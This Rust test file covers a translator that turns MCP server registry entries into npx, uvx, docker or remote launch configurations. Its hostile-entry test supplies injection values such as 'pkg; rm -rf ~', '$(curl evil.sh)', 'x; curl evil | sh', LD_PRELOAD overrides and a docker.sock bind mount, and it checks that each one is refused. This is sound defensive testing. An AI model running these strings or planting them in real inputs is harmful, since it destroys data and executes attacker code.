//! The translation of the fixtures (shaped like the official schema's examples) and
//! of hostile entries.

use super::entry::ServerJson;
use super::translate::{Error, Given, Server, translate};
use super::*;

fn fixture(name: &str) -> ServerJson {
    let text = match name {
        "brave-search" => include_str!("../../tests/fixtures/registry/brave-search.json"),
        "weather" => include_str!("../../tests/fixtures/registry/weather.json"),
        "filesystem" => include_str!("../../tests/fixtures/registry/filesystem.json"),
        "remote" => include_str!("../../tests/fixtures/registry/remote.json"),
        _ => unreachable!(),
    };
    serde_json::from_str(text).unwrap()
}

fn given(env: &[(&str, &str)], args: &[(&str, &str)], secrets: &[&str]) -> Given {
    Given {
        env: env
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        args: args
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        secrets: secrets.iter().map(|s| s.to_string()).collect(),
    }
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn npm_runs_with_npx_pinned_and_its_secret_is_a_secret() {
    let server = translate(
        &fixture("brave-search"),
        &given(&[], &[], &["BRAVE_API_KEY"]),
    )
    .unwrap();
    assert_eq!(server.command.as_deref(), Some("npx"));
    assert_eq!(
        server.args,
        strings(&["-y", "@example/server-brave-search@1.0.2"])
    );
    assert_eq!(server.version, "1.0.2");
    assert_eq!(server.secrets, strings(&["BRAVE_API_KEY"]));
    assert_eq!(
        server.env.get("LOG_LEVEL").map(String::as_str),
        Some("info")
    );
}

#[test]
fn a_required_secret_missing_is_refused_with_the_list_of_what_is_needed() {
    let err = translate(&fixture("weather"), &Given::default()).unwrap_err();
    let Error::Missing { needed, .. } = &err else {
        panic!("{err:?}")
    };
    let flags: Vec<&str> = needed.iter().map(|n| n.flag.as_str()).collect();
    assert_eq!(
        flags,
        ["--secret WEATHER_API_KEY", "--arg city=..."],
        "{err}"
    );
    assert!(
        err.to_string().contains("API key for weather service"),
        "{err}"
    );
}

#[test]
fn pypi_runs_with_uvx_and_named_and_positional_arguments_follow_the_package() {
    let server = translate(
        &fixture("weather"),
        &given(&[], &[("city", "Oslo")], &["WEATHER_API_KEY"]),
    )
    .unwrap();
    assert_eq!(server.command.as_deref(), Some("uvx"));
    assert_eq!(
        server.args,
        strings(&["weather-mcp-server==0.5.0", "--units", "celsius", "Oslo"])
    );
    let server = translate(
        &fixture("weather"),
        &given(
            &[],
            &[("city", "Oslo"), ("units", "fahrenheit")],
            &["WEATHER_API_KEY"],
        ),
    )
    .unwrap();
    assert_eq!(server.args[2], "fahrenheit");
}

#[test]
fn oci_runs_with_docker_its_placeholders_filled_and_env_passed_in() {
    let server = translate(
        &fixture("filesystem"),
        &given(&[], &[("source_path", "/home/me/work")], &[]),
    )
    .unwrap();
    assert_eq!(server.command.as_deref(), Some("docker"));
    assert_eq!(
        server.args,
        strings(&[
            "run",
            "-i",
            "--rm",
            "--mount",
            "type=bind,src=/home/me/work,dst=/project",
            "-e",
            "LOG_LEVEL",
            "docker.io/mcp/filesystem:1.0.2",
            "/project",
        ])
    );
    assert_eq!(server.version, "1.0.2");
    let err = translate(&fixture("filesystem"), &Given::default()).unwrap_err();
    assert!(err.to_string().contains("--arg source_path=..."), "{err}");
}

#[test]
fn a_remote_gets_its_url_and_headers_with_the_secret_as_a_reference() {
    let server = translate(&fixture("remote"), &given(&[], &[], &["X_API_KEY"])).unwrap();
    assert_eq!(
        server,
        Server {
            entry: "io.github.example/hosted-search".into(),
            version: "2.0.0".into(),
            url: Some("https://mcp.example.com/mcp".into()),
            transport: Some("streamable-http".into()),
            headers: [
                ("X-API-Key".to_string(), "${X_API_KEY}".to_string()),
                ("X-Region".to_string(), "us-east-1".to_string()),
            ]
            .into(),
            secrets: strings(&["X_API_KEY"]),
            ..Server::default()
        }
    );
}

fn hostile(edit: impl FnOnce(&mut serde_json::Value)) -> String {
    let mut value: serde_json::Value = serde_json::from_str(include_str!(
        "../../tests/fixtures/registry/brave-search.json"
    ))
    .unwrap();
    edit(&mut value);
    let entry: ServerJson = serde_json::from_value(value).unwrap();
    translate(&entry, &given(&[], &[], &["BRAVE_API_KEY"]))
        .unwrap_err()
        .to_string()
}

#[test]
fn hostile_entries_are_refused_naming_what() {
    for (field, bad, says) in [
        ("identifier", "pkg; rm -rf ~", "npm package"),
        ("identifier", "$(curl evil.sh)", "npm package"),
        ("identifier", "../../etc/passwd", "npm package"),
        ("version", "latest", "not a pinned version"),
        ("version", "1.0.0 && id", "version"),
        ("registryType", "nuget", "registryType"),
        ("runtimeHint", "bash", "runtimeHint"),
    ] {
        let err = hostile(|v| v["packages"][0][field] = bad.into());
        assert!(err.contains(says), "{field}={bad}: {err}");
    }
    let err = hostile(|v| {
        v["packages"][0]["packageArguments"] =
            serde_json::json!([{ "type": "positional", "value": "x; curl evil | sh" }]);
    });
    assert!(err.contains("not allowed in a value"), "{err}");
    let err = hostile(|v| {
        v["packages"][0]["runtimeArguments"] = serde_json::json!([{ "type": "named", "name": "--registry", "value": "https://evil.example" }]);
    });
    assert!(err.contains("not accepted from a registry"), "{err}");
    let err = hostile(|v| v["name"] = "evil name".into());
    assert!(err.contains("entry name"), "{err}");
    let err = hostile(|v| {
        v["packages"] = serde_json::json!([]);
        v["remotes"] =
            serde_json::json!([{ "type": "streamable-http", "url": "http://mcp.example.com/mcp" }]);
    });
    assert!(err.contains("not an https:// URL"), "{err}");
    // From the attack on issue 27: a positional runtime argument (read as the package
    // to run), the runtime's own environment, a bind of a path the entry chose, a
    // version that is a range or a tag.
    let err = hostile(|v| {
        v["packages"][0]["runtimeArguments"] =
            serde_json::json!([{ "type": "positional", "value": "evil-pkg" }]);
    });
    assert!(err.contains("is positional"), "{err}");
    for name in ["NODE_OPTIONS", "npm_config_registry", "LD_PRELOAD", "PATH"] {
        let err = hostile(|v| {
            v["packages"][0]["environmentVariables"] =
                serde_json::json!([{ "name": name, "default": "x" }]);
        });
        assert!(
            err.contains("not accepted from a registry"),
            "{name}: {err}"
        );
    }
    for bad in ["1.x", "1", "next", "v1.0.0"] {
        let err = hostile(|v| v["packages"][0]["version"] = bad.into());
        assert!(err.contains("version"), "{bad}: {err}");
    }
    let mut fs: serde_json::Value = serde_json::from_str(include_str!(
        "../../tests/fixtures/registry/filesystem.json"
    ))
    .unwrap();
    fs["packages"][0]["runtimeArguments"] = serde_json::json!([
        { "type": "named", "name": "-v", "value": "/var/run/docker.sock:/var/run/docker.sock" }
    ]);
    let entry: ServerJson = serde_json::from_value(fs).unwrap();
    let err = translate(&entry, &given(&[], &[("source_path", "/home/me")], &[]))
        .unwrap_err()
        .to_string();
    assert!(err.contains("binds a host path the entry chose"), "{err}");
}

#[test]
fn the_mark_round_trips() {
    let line = mark("io.github.example/brave-search", "1.0.2", OFFICIAL);
    assert_eq!(
        parse_mark(&format!("\n{line}\n# more\n")),
        Some(("io.github.example/brave-search".into(), "1.0.2".into()))
    );
    assert!(mark("a/b", "1", "http://127.0.0.1:9").ends_with("(http://127.0.0.1:9)"));
}
